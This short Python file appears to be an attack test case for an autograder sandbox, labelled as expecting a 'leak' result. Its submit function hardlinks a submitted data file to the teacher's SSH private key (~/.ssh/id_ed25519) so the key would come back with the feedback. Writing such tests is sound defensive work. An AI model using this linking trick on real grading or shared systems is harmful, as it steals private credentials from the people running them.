# /// attack
# tries = "Hands in another name for the file with the teacher's private key, to get it back with the feedback."
# points = 0
# shows = ["leak"]
# ///


def submit(place):
    place.save()
    (place.folder / "data.txt").hardlink_to(f"{place.bait['home']}/.ssh/id_ed25519")
